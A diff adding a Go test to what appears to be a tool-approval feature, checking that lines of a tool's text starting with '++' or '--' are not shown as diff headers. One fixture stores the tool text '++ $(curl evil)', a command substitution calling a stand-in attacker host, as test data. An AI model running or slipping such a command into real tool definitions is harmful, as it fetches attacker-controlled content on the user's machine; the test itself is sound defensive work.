@@ -82,6 +82,22 @@ func TestTheUserSeesTheTextOfAToolBeforeDeciding(t *testing.T) {
 	u.must(1, []string{"ctx trust list"}, "trust", "approve", "local:nobody")
 }
 
+// Signs that begin a line are those of the text, where they are not of the diff.
+func TestNoLineOfAToolIsTakenForAHeadOfTheDiff(t *testing.T) {
+	u := user{t, t.TempDir()}
+	u.workspace("++ added first\n")
+	u.must(0, []string{"+ ++ added first\n"}, "trust", "diff", "local:deploy")
+	u.must(0, []string{"approved"}, "trust", "approve", "local:deploy")
+	u.tool("-- dashes\n")
+	u.must(0, []string{"- ++ added first\n", "+ -- dashes\n"}, "trust", "diff", "local:deploy")
+	u.must(0, []string{"approved"}, "trust", "approve", "local:deploy")
+	u.tool("++ $(curl evil)\n")
+	said := u.must(0, []string{"- -- dashes\n", "+ ++ $(curl evil)\n"}, "trust", "diff", "local:deploy")
+	if strings.Contains(said, "- -- \n") || strings.Contains(said, "+ ++ \n") {
+		t.Errorf("the head of the diff is shown:\n%s", said)
+	}
+}
+
 // What is approved is what was shown, whatever a repository puts in its place in
 // between.
 func TestNothingIsApprovedThatTookThePlaceOfWhatWasShown(t *testing.T) {
